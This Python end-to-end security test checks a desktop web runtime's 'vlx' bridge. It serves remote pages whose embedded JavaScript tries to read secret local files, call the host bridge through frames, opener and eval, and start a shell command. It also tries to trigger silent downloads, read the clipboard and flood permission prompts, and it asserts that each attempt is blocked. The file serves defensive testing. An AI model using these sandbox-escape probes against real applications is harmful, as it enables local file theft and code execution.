#!/usr/bin/env python3
"""Remote documents never reach the bridge or local files: a remote top-level page, a remote
frame inside an application page and a remote pop-up each try every way in (frames, parent,
opener, eval through a window reference, fetch and both kinds of XHR, images read back through
a canvas, style sheets, workers, module imports) and all fail, while the application page in the
same run still makes its bridge calls, its cross-origin fetch without CORS headers and its
absolute file:/// fetch."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import contextlib
import functools
import http.server
import threading
import time

from harness import PAGE_HELPERS, RESOLVED, XSession, expect, expect_eq, page, run_cases, \
    settled, wait_until

VERSION = "2026.10"
SECRET = "SECRET-7f3a9c"

# Runs inside a remote document: every read of package and local files, and every path to the
# bridge through a window reference. Writes would land in PWN (a folder the test watches).
ATTACK = r"""
<script>
const PWN = %(pwn)s, SECRET_FILE = %(secret)s, ORIGIN = %(origin)s;
function text(t) { return String(t).slice(0, 60); }
async function viaFetch(url) {
  try { const r = await fetch(url); return "read:" + text(await r.text()); }
  catch (e) { return "blocked"; }
}
function viaSyncXhr(url) {
  try {
    const x = new XMLHttpRequest(); x.open("GET", url, false); x.send();
    return x.responseText ? "read:" + text(x.responseText) : "blocked";
  } catch (e) { return "blocked"; }
}
function viaXhr(url) {
  return new Promise((done) => {
    const x = new XMLHttpRequest();
    x.open("GET", url);
    x.onload = () => done(x.responseText ? "read:" + text(x.responseText) : "blocked");
    x.onerror = () => done("blocked");
    x.send();
    setTimeout(() => done("blocked"), 3000);
  });
}
function viaImage(url) {
  return new Promise((done) => {
    const i = new Image();
    i.onload = () => {
      try {
        const c = document.createElement("canvas");
        c.width = i.width; c.height = i.height;
        const g = c.getContext("2d");
        g.drawImage(i, 0, 0);
        g.getImageData(0, 0, 1, 1);
        done("read");
      } catch (e) { done("blocked"); }
    };
    i.onerror = () => done("blocked");
    i.src = url;
    setTimeout(() => done("blocked"), 3000);
  });
}
function viaStyleSheet(url) {
  return new Promise((done) => {
    const l = document.createElement("link");
    l.rel = "stylesheet"; l.href = url;
    l.onload = () => { try { done(l.sheet.cssRules.length >= 0 ? "read" : "blocked"); }
                       catch (e) { done("blocked"); } };
    l.onerror = () => done("blocked");
    document.head.appendChild(l);
    setTimeout(() => done("blocked"), 3000);
  });
}
function viaWorker(url) {
  return new Promise((done) => {
    try {
      const w = new Worker(url);
      w.onmessage = () => done("read");
      w.onerror = (e) => { e.preventDefault(); done("blocked"); };
    } catch (e) { done("blocked"); }
    setTimeout(() => done("blocked"), 3000);
  });
}
function viaMedia(url) {
  return new Promise((done) => {
    const a = new Audio();
    a.onloadedmetadata = () => done("read");
    a.onerror = () => done("blocked");
    a.src = url;
    setTimeout(() => done("blocked"), 3000);
  });
}
async function viaImport(url) {
  try { await import(url); return "read"; } catch (e) { return "blocked"; }
}
async function reads() {
  const r = {};
  const urls = {vlx: "vlx:///index.html", vlxAbsolute: "vlx://" + SECRET_FILE,
                file: "file://" + SECRET_FILE, fileHost: "file://localhost" + SECRET_FILE};
  for (const [name, url] of Object.entries(urls)) {
    r["fetch " + name] = await viaFetch(url);
    r["sync xhr " + name] = viaSyncXhr(url);
    r["xhr " + name] = await viaXhr(url);
  }
  r.image = await viaImage("vlx:///dot.png");
  r.styleSheet = await viaStyleSheet("vlx:///site.css");
  r.worker = await viaWorker("vlx:///worker.js");
  r.import = await viaImport("vlx:///module.mjs");
  r.media = await viaMedia("vlx:///tone.wav");
  r.mediaFile = await viaMedia("file://" + SECRET_FILE.replace("secret.txt", "tone.wav"));
  return r;
}
// Every way to make a call through another window's bridge; each one writes a file named after
// the path it took.
function bridgeThrough(w, tag) {
  const r = {};
  const attempts = {
    vlx: () => w.vlx.files.writeTextFile({filePath: PWN + "/" + tag + "-vlx", text: "x"}),
    eval: () => w.eval("vlx.files.writeTextFile({filePath: " +
                       JSON.stringify(PWN + "/" + tag + "-eval") + ", text: 'x'})"),
    func: () => new w.Function("vlx.files.writeTextFile({filePath: " +
                               JSON.stringify(PWN + "/" + tag + "-func") + ", text: 'x'})")(),
    webview: () => w.chrome.webview.postMessage(
        {id: 30003, uuid: "x", data: {filePath: PWN + "/" + tag + "-raw", text: "x"}}),
    borrowed: () => w.vlx.call.call(window.vlx, 30003,
                                    {filePath: PWN + "/" + tag + "-own", text: "x"}),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try { attempt(); r[name] = "called"; } catch (e) { r[name] = "blocked"; }
  }
  // Our own bridge, whose messages carry this document's URI.
  try { vlx.files.writeTextFile({filePath: PWN + "/" + tag + "-self", text: "x"}); } catch (e) {}
  return r;
}
function send(result) {
  const x = new XMLHttpRequest();
  x.open("POST", ORIGIN + "/result");
  x.send(JSON.stringify(result));
}
function loaded(element) {
  return new Promise((done) => { element.onload = () => done(); setTimeout(done, 3000); });
}
</script>
"""

class Handler(http.server.SimpleHTTPRequestHandler):
    """Serves a folder without CORS headers; a POST to /NAME stores the page's report as
    NAME.json (it can be longer than a window title carries); /attach?NAME answers with an
    attachment named NAME.html."""

    def do_GET(self) -> None:  # noqa: N802 - the base class's name
        if not self.path.startswith("/attach?"):
            super().do_GET()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Disposition",
                         f'attachment; filename="{self.path.split("?", 1)[1]}.html"')
        self.end_headers()
        self.wfile.write(b"<script>vlx.shell.command('id')</script>")

    def do_POST(self) -> None:  # noqa: N802 - the base class's name
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        (Path(self.directory) / f"{self.path.strip('/') or 'result'}.json").write_bytes(body)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@contextlib.contextmanager
def web_server(folder: Path):
    handler = functools.partial(Handler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def wait_report(app, folder: Path, timeout: float = 60, name: str = "result") -> dict:
    path = folder / f"{name}.json"

    def check():
        expect(app.running(), f"the runtime ended:\n{app.output()}")
        return json.loads(path.read_text(encoding="utf-8")) if path.is_file() else None
    return wait_until(check, timeout, "the page's report")


WORKER = "postMessage('up');"
MODULE = "export const up = true;"
CSS = "body { margin: 0 }"
DOT = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
                    "0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082")


def _tone() -> bytes:
    import io
    import wave
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(bytes(16000))
    return out.getvalue()


TONE = _tone()


def package_files(index: str) -> dict[str, str | bytes]:
    return {"index.html": index, "worker.js": WORKER, "module.mjs": MODULE, "site.css": CSS,
            "dot.png": DOT, "tone.wav": TONE}


def attack_head(artifacts: Path, origin: str) -> str:
    pwn = artifacts / "pwn"
    pwn.mkdir(exist_ok=True)
    secret = artifacts / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    (artifacts / "tone.wav").write_bytes(TONE)
    return PAGE_HELPERS + ATTACK % {"pwn": json.dumps(str(pwn)), "secret": json.dumps(str(secret)),
                                   "origin": json.dumps(origin)}


def expect_nothing_leaked(result: dict, where: str, artifacts: Path) -> None:
    reads = result.get("reads", {})
    expect(reads, f"{where}: no read results: {result}")
    leaks = {name: outcome for name, outcome in reads.items() if outcome != "blocked"}
    expect(not leaks, f"{where}: reads that were not blocked: {leaks}")
    written = sorted(p.name for p in (artifacts / "pwn").iterdir())
    expect(not written, f"{where}: the bridge wrote files for a remote document: {written}")


def remote_top(args, artifacts: Path) -> None:
    """The app is started on a remote page (the two-argument command line), which embeds the
    application's page in a frame and opens it in a pop-up, and reads package and local
    files."""
    web = artifacts / "web"
    web.mkdir()
    with web_server(web) as origin, XSession("top", artifacts, args.bin_dir) as session:
        (web / "top.html").write_text(page("<p>remote</p>", head=attack_head(artifacts, origin) + r"""
<script>
window.addEventListener("load", async () => {
  const result = {reads: await reads()};
  const frame = document.createElement("iframe");
  frame.src = "vlx:///index.html";
  document.body.appendChild(frame);
  await loaded(frame);
  result.frame = bridgeThrough(frame.contentWindow, "frame");
  const popup = window.open("vlx:///index.html");
  await new Promise((r) => setTimeout(r, 1500));
  result.popup = popup ? bridgeThrough(popup, "popup") : "no window";
  await new Promise((r) => setTimeout(r, 1500));
  send(result);
});
</script>"""), encoding="utf-8")
        exe = session.make_app("top", {"ID": "E2ESecTop", "Name": "Top", "DynamicAppTitle": 1,
                                       "AllowInstances": 1}, package_files(page("<p>app</p>")))
        app = session.launch(exe, "E2ESecTop", f"{origin}/top.html")
        app.wait_window()
        result = wait_report(app, web)
        expect_nothing_leaked(result, "remote top-level page", artifacts)
        expect(app.running(), "the runtime ended")


def remote_frame_and_popup(args, artifacts: Path) -> None:
    """An application page embeds a remote frame and opens a remote pop-up; both try the
    application's bridge through parent, top and opener and read package and local files. The
    application page itself keeps its bridge, a cross-origin fetch to a server without CORS
    headers, and an absolute file:/// fetch of its own file."""
    web = artifacts / "web"
    web.mkdir()
    with web_server(web) as origin, XSession("frame", artifacts, args.bin_dir) as session:
        remote = page("<p>remote</p>", head=attack_head(artifacts, origin) + r"""
<script>
window.addEventListener("load", async () => {
  const w = window.opener || window.parent;
  const tag = window.opener ? "popup" : "frame";
  const result = {through: bridgeThrough(w, tag), top: bridgeThrough(window.top, tag + "-top")};
  result.reads = await reads();
  w.postMessage({tag, result}, "*");
});
</script>""")
        (web / "remote.html").write_text(remote, encoding="utf-8")
        (web / "data.json").write_text(json.dumps({"remote": True}), encoding="utf-8")
        index = page("<p>app</p>", head=PAGE_HELPERS + r"""
<script>
const ORIGIN = %s;
const reports = {};
window.addEventListener("message", (e) => { if (e.data && e.data.tag) reports[e.data.tag] = e.data.result; });
window.addEventListener("load", async () => {
  const own = {};
  own.hello = await settle(vlx.hello(), 5000);
  try { own.crossOrigin = await (await fetch(ORIGIN + "/data.json")).json(); }
  catch (e) { own.crossOrigin = String(e); }
  try {
    const x = new XMLHttpRequest(); x.open("GET", ORIGIN + "/data.json", false); x.send();
    own.crossOriginSyncXhr = JSON.parse(x.responseText);
  } catch (e) { own.crossOriginSyncXhr = String(e); }
  try { own.fileFetch = (await (await fetch("file:///site.css")).text()); }
  catch (e) { own.fileFetch = String(e); }
  own.worker = await new Promise((done) => {
    const w = new Worker("worker.js"); w.onmessage = (e) => done(e.data);
    setTimeout(() => done("timeout"), 3000);
  });
  own.module = (await import("./module.mjs")).up;
  const frame = document.createElement("iframe");
  frame.src = ORIGIN + "/remote.html";
  document.body.appendChild(frame);
  window.open(ORIGIN + "/remote.html");
  const deadline = Date.now() + 20000;
  while (!(reports.frame && reports.popup) && Date.now() < deadline) {
    await new Promise((r) => setTimeout(r, 100));
  }
  own.afterHello = await settle(vlx.hello(), 5000);
  const x = new XMLHttpRequest();
  x.open("POST", ORIGIN + "/result");
  x.send(JSON.stringify({own, frame: reports.frame, popup: reports.popup}));
});
</script>""" % json.dumps(origin))
        exe = session.make_app("frame", {"ID": "E2ESecFrame", "Name": "Frame",
                                         "DynamicAppTitle": 1}, package_files(index))
        app = session.launch(exe)
        app.wait_window(name="Frame")
        result = wait_report(app, web)
        own = result["own"]
        expect_eq(own.get("hello"), settled(RESOLVED, VERSION), "the app's own bridge call")
        expect_eq(own.get("afterHello"), settled(RESOLVED, VERSION), "the app's call afterwards")
        expect_eq(own.get("crossOrigin"), {"remote": True}, "the app's cross-origin fetch")
        expect_eq(own.get("crossOriginSyncXhr"), {"remote": True},
                  "the app's cross-origin synchronous XHR")
        expect_eq(own.get("fileFetch"), CSS, "the app's absolute file:/// fetch")
        expect_eq(own.get("worker"), "up", "the app's worker")
        expect_eq(own.get("module"), True, "the app's module import")
        for tag in ("frame", "popup"):
            expect(result.get(tag), f"no report from the remote {tag}: {result}")
            expect_nothing_leaked(result[tag], f"remote {tag}", artifacts)
        expect(app.running(), "the runtime ended")


# A remote frame's every way to a further instance of the application, to a silent download, to
# a server without CORS headers and to a permission; then it reports to the application page.
FRAME_ATTACK = r"""<meta name="referrer" content="no-referrer">
<script>
const LOCAL = %(local)s, SECRET_SERVER = %(secret)s;
function download(href, name) {
  const a = document.createElement("a");
  a.href = href; a.download = name; document.body.appendChild(a); a.click();
}
function syncRead(url) {
  try {
    const x = new XMLHttpRequest(); x.open("GET", url, false); x.send();
    return x.responseText ? "read:" + x.responseText : "blocked";
  } catch (e) { return "blocked"; }
}
async function fetchRead(url) {
  try { return "read:" + await (await fetch(url)).text(); } catch (e) { return "blocked"; }
}
window.addEventListener("load", async () => {
  const r = {};
  const opens = [
    () => window.open(LOCAL),
    () => window.open("vlx:///page2.html?frame1"),
    () => window.open(LOCAL, "_blank", "noopener"),
    () => window.open("vlx:///page2.html?frame2", "_blank", "noreferrer"),
    () => window.open("file:///page2.html?frame3", "_blank", "noopener,noreferrer"),
    () => document.open("vlx:///page2.html?frame4", "_blank", ""),
    () => { const a = document.createElement("a"); a.href = "vlx:///page2.html?frame5";
            a.target = "_blank"; a.rel = "noopener noreferrer"; document.body.appendChild(a);
            a.click(); return null; },
    () => { const f = document.createElement("form"); f.action = "vlx:///page2.html";
            f.target = "_blank"; document.body.appendChild(f); f.submit(); return null; },
    () => window.open(location.origin + "/remote-popup.html"),  // no gesture: no window
  ];
  r.open = opens.map((attempt) => {
    try { return attempt() ? "window" : "none"; } catch (e) { return "threw"; }
  });
  // Apart: a download is a navigation, and the next one would cancel it.
  const pause = () => new Promise((done) => setTimeout(done, 500));
  download("data:text/html,<b>x</b>", "frame-data.html");
  await pause();
  download(URL.createObjectURL(new Blob(["<b>x</b>"], {type: "text/html"})), "frame-blob.html");
  await pause();
  download("/attach?frame-attachment", "frame-attachment.html");
  await pause();
  r.corsSync = syncRead(SECRET_SERVER + "/secret.txt");
  r.corsFetch = await fetchRead(SECRET_SERVER + "/secret.txt");
  r.notifications = await settle(Notification.requestPermission(), 20000);
  // The clipboard and storage access need the user's click, which the test gives.
  const button = document.getElementById("click");
  button.onclick = async () => {
    button.onclick = null;
    r.clipboard = await settle(navigator.clipboard.readText(), 20000);
    parent.postMessage({frame: r}, "*");
  };
  const x = new XMLHttpRequest(); x.open("POST", "/frame-ready"); x.send("{}");
});
</script>"""

# A page that reads the server without CORS headers and reports to its own server.
READER = r"""<script>
const SECRET_SERVER = %(secret)s;
window.addEventListener("load", async () => {
  const r = {where: location.href};
  try {
    const x = new XMLHttpRequest(); x.open("GET", SECRET_SERVER + "/secret.txt", false); x.send();
    r.sync = x.responseText ? "read:" + x.responseText : "blocked";
  } catch (e) { r.sync = "blocked"; }
  try { r.fetch = "read:" + await (await fetch(SECRET_SERVER + "/secret.txt")).text(); }
  catch (e) { r.fetch = "blocked"; }
  const x = new XMLHttpRequest(); x.open("POST", "/" + %(name)s); x.send(JSON.stringify(r));
});
</script>"""


def answer_questions(session, app, wid: int, web: Path, saved: Path) -> list[str]:
    """Acts as a cautious user until the remote pages have reported: clicks the frame's button
    when it says it is ready, refuses every permission question and every save dialog of a
    download that is not plainly the application's, saves the application's own download under
    the name it suggests (to `saved`), then clicks the application's button. Returns the titles
    of the questions, in order."""
    seen: list[str] = []
    handled: set[int] = set()
    result = web / "result.json"
    # Each button: when to click it, where, and when the click has been seen; a click lost
    # under load is given again after a while.
    buttons = [
        (lambda: (web / "frame-ready.json").is_file(), (200, 100),
         lambda: "Permission" in seen or result.is_file()),
        (lambda: (web / "app-ready.json").is_file() and saved.is_file(), (200, 250),
         result.is_file),
    ]
    last_click = [0.0, 0.0]

    def step():
        for index, (ready, (x, y), seen_click) in enumerate(buttons):
            if seen_click() or not ready() or time.monotonic() - last_click[index] < 3:
                continue
            last_click[index] = time.monotonic()
            rect = session.client_rect(wid)
            session.x("xdotool", "mousemove", str(rect.left + x), str(rect.top + y), "click", "1")
        for question in session.find_windows(pid=app.pid):
            title = session.title(question)
            if question in handled or not (title == "Permission" or title.startswith("Save")):
                continue
            handled.add(question)
            seen.append(title)
            if title == "Save File":
                session.press(question, "Return")
            else:
                session.press(question, "Escape")
        return True if (web / "after.json").is_file() and (web / "popup.json").is_file() else None

    wait_until(step, 90, "the page's questions and its report")
    return seen


def instance_arguments(exe: Path) -> list[list[str]]:
    """The argument vectors of the running processes of exe beyond argv[0]."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            args = cmdline.read_bytes().split(b"\0")[:-1]
        except OSError:
            continue
        if args and args[0] == str(exe).encode():
            found.append([a.decode(errors="replace") for a in args[1:]])
    return found


def remote_frame_reaches_nothing(args, artifacts: Path) -> None:
    """A remote frame inside an application page tries every way to a further instance of the
    application, downloads of each kind, a server without CORS headers, notifications and the
    clipboard: no instance starts, no file is saved unasked (each save dialog names the
    remote origin and is refused), nothing is read, every permission is asked with the frame's
    origin and refused. The application page in the same run opens a package page as a further
    instance, saves its own download through the dialog, reads the server, keeps its
    permissions, and then a remote page it navigates to and a remote pop-up it opens get
    ordinary CORS."""
    web, secret = artifacts / "web", artifacts / "secret"
    web.mkdir()
    secret.mkdir()
    (secret / "secret.txt").write_text(SECRET, encoding="utf-8")
    local = artifacts / "local" / "evil.html"
    local.parent.mkdir()
    local.write_text(page("<p>local</p>", title="PWNED"), encoding="utf-8")
    with web_server(web) as origin, web_server(secret) as secret_origin, \
            XSession("attack", artifacts, args.bin_dir) as session:
        # The user's download folder, where the save dialog starts.
        home = Path(session.env["HOME"])
        saved = home / "Downloads" / "app.txt"
        saved.parent.mkdir()
        (home / ".config" / "user-dirs.dirs").write_text(
            'XDG_DOWNLOAD_DIR="$HOME/Downloads"\n', encoding="utf-8")
        values = {"local": json.dumps(local.as_uri()), "secret": json.dumps(secret_origin)}
        (web / "attack.html").write_text(
            page('<button id="click" style="width:100%;height:200px">click</button>',
                 head="<style>body{margin:0}</style>" + PAGE_HELPERS + FRAME_ATTACK % values),
            encoding="utf-8")
        for name in ("after", "popup"):
            (web / f"{name}.html").write_text(
                page(f"<p>{name}</p>", head=READER % dict(values, name=json.dumps(name))),
                encoding="utf-8")
        index = page('<button id="click" style="display:block;width:400px;height:100px">app'
                     '</button>', head="<style>body{margin:0}iframe{display:block;border:0;"
                     "width:400px;height:200px}</style>" + PAGE_HELPERS + r"""
<script>
const ORIGIN = %(origin)s, SECRET_SERVER = %(secret)s;
window.addEventListener("message", async (e) => {
  if (!e.data || !e.data.frame) return;
  const a = document.createElement("a");
  a.href = URL.createObjectURL(new Blob(["saved by the app"])); a.download = "app.txt";
  document.body.appendChild(a); a.click();
  const x = new XMLHttpRequest(); x.open("POST", ORIGIN + "/app-ready"); x.send("{}");
  await new Promise((done) => { document.getElementById("click").onclick = done; });
  const clipboard = settle(navigator.clipboard.readText(), 10000);
  const own = {};
  own.instance = window.open("page2.html?app") === null ? "none" : "window";
  try {
    const x = new XMLHttpRequest(); x.open("GET", SECRET_SERVER + "/secret.txt", false); x.send();
    own.corsSync = "read:" + x.responseText;
  } catch (err) { own.corsSync = "blocked"; }
  own.clipboard = await clipboard;
  own.clipboard.value = String(own.clipboard.value);
  const report = new XMLHttpRequest(); report.open("POST", ORIGIN + "/result");
  report.send(JSON.stringify({frame: e.data.frame, own}));
  window.open(ORIGIN + "/popup.html");
  setTimeout(() => { location.href = ORIGIN + "/after.html"; }, 3000);
});
window.addEventListener("load", () => {
  const frame = document.createElement("iframe");
  frame.src = ORIGIN + "/attack.html";
  document.body.insertBefore(frame, document.body.firstChild);
});
</script>""" % {"origin": json.dumps(origin), "secret": json.dumps(secret_origin)})
        exe = session.make_app("attack", {"ID": "E2ESecAttack", "Name": "Attack"},
                               {"index.html": index,
                                "page2.html": page("<p>two</p>", title="page two")})
        app = session.launch(exe)
        wid = app.wait_window(name="Attack")
        titles = answer_questions(session, app, wid, web, saved)
        result = json.loads((web / "result.json").read_text(encoding="utf-8"))
        frame, own = result["frame"], result["own"]
        session.screenshot(artifacts / "after.png")

        expect(all(o in ("none", "threw") for o in frame["open"]),
               f"the remote frame opened a window: {frame['open']}")
        instances = [a for a in instance_arguments(exe) if a]
        expect_eq(instances, [["E2ESecAttack", "file:///page2.html?app"]],
                  "the further instances (only the application's own page)")
        expect_eq((frame["corsSync"], frame["corsFetch"]), ("blocked", "blocked"),
                  "the remote frame's reads of a server without CORS headers")
        expect_eq(frame["clipboard"]["state"], "rejected", "the remote frame's clipboard read")
        expect_eq(frame["notifications"], settled(RESOLVED, "denied"),
                  "the remote frame's notification request (refused by the engine itself)")
        expect(titles.count("Permission") == 1, f"one permission question: {titles}")
        remote_saves = [t for t in titles if t.startswith("Save a file")]
        expect(len(remote_saves) == 3 and all(origin in t for t in remote_saves),
               f"three save dialogs naming {origin}: {titles}")
        expect("Save File" in titles, f"no save dialog for the application's download: {titles}")
        silent = [p for p in home.rglob("*") if p.name.startswith("frame-")]
        expect(not silent, f"files saved without asking: {silent}")

        expect_eq(own["instance"], "none", "window.open of a package page (a further instance)")
        expect_eq(own["corsSync"], "read:" + SECRET, "the application's read without CORS")
        expect_eq(own["clipboard"]["state"], "resolved", f"the application's clipboard read: {own}")
        expect_eq(saved.read_text(encoding="utf-8"), "saved by the app", "the saved download")
        for name in ("after", "popup"):
            report = json.loads((web / f"{name}.json").read_text(encoding="utf-8"))
            expect_eq((report["sync"], report["fetch"]), ("blocked", "blocked"),
                      f"reads of the remote {name} page")


def question_flood(args, artifacts: Path) -> None:
    """A remote page asks for a permission 30 times at once and opens 100 pop-ups without a
    gesture: one question is on screen at a time and no pop-up opens; when the page goes away,
    its question goes with it."""
    web = artifacts / "web"
    web.mkdir()
    with web_server(web) as origin, XSession("flood", artifacts, args.bin_dir) as session:
        (web / "flood.html").write_text(page("<p>flood</p>", head=r"""<script>
window.addEventListener("load", () => {
  for (let i = 0; i < 30; i++) navigator.geolocation.getCurrentPosition(() => {}, () => {});
  let opened = 0;
  for (let i = 0; i < 100; i++) if (window.open("about:blank")) opened++;
  const x = new XMLHttpRequest(); x.open("POST", "/result"); x.send(JSON.stringify({opened}));
  setTimeout(() => { location.href = "/gone.html"; }, 4000);
});
</script>"""), encoding="utf-8")
        (web / "gone.html").write_text(page("<p>gone</p>", title="gone"), encoding="utf-8")
        exe = session.make_app("flood", {"ID": "E2ESecFlood", "Name": "Flood",
                                         "DynamicAppTitle": 1}, {"index.html": page("app")})
        app = session.launch(exe, "E2ESecFlood", f"{origin}/flood.html")
        wid = app.wait_window()
        expect_eq(wait_report(app, web)["opened"], 0, "pop-ups opened without a gesture")

        def questions() -> list[int]:
            return [w for w in session.find_windows(pid=app.pid)
                    if session.title(w) == "Permission"]
        wait_until(lambda: questions() or None, 20, "the permission question")
        time.sleep(1)
        expect_eq(len(questions()), 1, "questions on screen at once")
        session.wait_title(wid, lambda t: t == "gone", what="the next page")
        wait_until(lambda: not questions() or None, 10, "the question going with its page")
        expect_eq(len(session.find_windows(pid=app.pid)), 1, "windows of the application")


# A remote frame whose base is "file:///" asks for windows through a same-origin child that has
# a base of its own: the engine resolves the address against the calling document, any guard
# that re-resolves it in the child sees a web address. One route per click, each a real click.
BASE_ATTACK = r"""<base href="file:///">
<script>
window.addEventListener("load", async () => {
  // Same-origin children with a web base of their own: a page of this server, and an
  // about:blank one given a base.
  const served = document.createElement("iframe");
  served.src = "http://" + location.host + "/child.html";
  served.style.display = "none";
  document.body.appendChild(served);
  await new Promise((done) => { served.onload = done; });
  const blank = document.createElement("iframe");
  blank.style.display = "none";
  document.body.appendChild(blank);
  const base = blank.contentDocument.createElement("base");
  base.href = "http://" + location.host + "/";
  blank.contentDocument.head.appendChild(base);
  const w = served.contentWindow, b = blank.contentWindow;
  const routes = [
    () => w.open("index.html?x=noreferrer", "_blank", "noreferrer"),
    () => w.open("index.html?x=noopener", "_blank", "noopener"),
    () => w.open("index.html?x=plain"),
    () => w.open("index.html?x=named", "somewhere"),
    () => w.document.open("index.html?x=document", "_blank", "noreferrer"),
    () => b.open("index.html?x=blank", "_blank", "noreferrer"),
    () => b.document.open("index.html?x=blank-document", "_blank", ""),
    () => window.open("index.html?x=self", "_blank", "noreferrer"),
    () => { const a = document.createElement("a"); a.href = "index.html?x=link";
            a.target = "_blank"; document.body.appendChild(a); a.click(); },
  ];
  // Without a gesture too.
  for (const route of routes) { try { route(); } catch (e) {} }
  let next = 0;
  document.getElementById("click").onclick = () => {
    const index = next++;
    if (index < routes.length) { try { routes[index](); } catch (e) {} }
    const x = new XMLHttpRequest();
    x.open("POST", "http://" + location.host + "/clicked-" + index); x.send("{}");
  };
  const x = new XMLHttpRequest();
  x.open("POST", "http://" + location.host + "/frame-ready"); x.send(JSON.stringify({routes: routes.length}));
});
</script>"""


def remote_frame_base_opens_nothing(args, artifacts: Path) -> None:
    """A remote frame with <base href="file:///"> opens the application's page through a
    same-origin child's window.open and document.open (with noreferrer, noopener, a name) and
    its own, and a <base>-relative link, on real clicks and without: no further instance starts.
    The application's own window.open (also with noopener), and that of an about:blank frame of
    its own, still start one."""
    web = artifacts / "web"
    web.mkdir()
    with web_server(web) as origin, XSession("base", artifacts, args.bin_dir) as session:
        (web / "attack.html").write_text(
            page('<button id="click" style="width:100%;height:200px">click</button>',
                 head="<style>body{margin:0}</style>" + BASE_ATTACK), encoding="utf-8")
        (web / "child.html").write_text(page("<p>child</p>"), encoding="utf-8")
        index = page('<button id="own" style="display:block;width:400px;height:100px">app'
                     '</button>', head="<style>body{margin:0}iframe{display:block;border:0;"
                     "width:400px;height:200px}</style>" + r"""
<script>
window.addEventListener("load", () => {
  const frame = document.createElement("iframe");
  frame.src = %s + "/attack.html";
  document.body.insertBefore(frame, document.body.firstChild);
  const blank = document.createElement("iframe");
  blank.style.display = "none";
  document.body.appendChild(blank);
  document.getElementById("own").onclick = () => {
    window.open("page2.html?app");
    window.open("page2.html?noopener", "_blank", "noopener");
    blank.contentWindow.open("page2.html?blank");
  };
});
</script>""" % json.dumps(origin))
        exe = session.make_app("base", {"ID": "E2ESecBase", "Name": "Base"},
                               {"index.html": index,
                                "page2.html": page("<p>two</p>", title="page two")})
        app = session.launch(exe)
        wid = app.wait_window(name="Base")
        ready = wait_report(app, web, name="frame-ready")

        def click(x: int, y: int) -> None:
            rect = session.client_rect(wid)
            session.x("xdotool", "mousemove", str(rect.left + x), str(rect.top + y), "click", "1")

        for index in range(ready["routes"]):
            # A click lost under load is given again.
            clicked = web / f"clicked-{index}.json"
            for _ in range(3):
                click(200, 100)
                try:
                    wait_until(clicked.is_file, 4, f"click {index}")
                    break
                except AssertionError:
                    continue
        time.sleep(1)
        expect_eq([a for a in instance_arguments(exe) if a], [],
                  "further instances started by the remote frame")
        missed = [i for i in range(ready["routes"]) if not (web / f"clicked-{i}.json").is_file()]
        expect(not missed, f"clicks the frame did not see: {missed}")
        click(200, 250)
        wait_until(lambda: len([a for a in instance_arguments(exe) if a]) >= 3 or None, 20,
                   "the application's own further instances")
        instances = sorted(a for a in instance_arguments(exe) if a)
        expect_eq(instances, [["E2ESecBase", "file:///page2.html?app"],
                              ["E2ESecBase", "file:///page2.html?blank"],
                              ["E2ESecBase", "file:///page2.html?noopener"]],
                  "the application's further instances")


CASES = {"remote_top": remote_top, "remote_frame_and_popup": remote_frame_and_popup,
         "remote_frame_reaches_nothing": remote_frame_reaches_nothing,
         "remote_frame_base_opens_nothing": remote_frame_base_opens_nothing,
         "question_flood": question_flood}

if __name__ == "__main__":
    sys.exit(run_cases(CASES, __doc__))
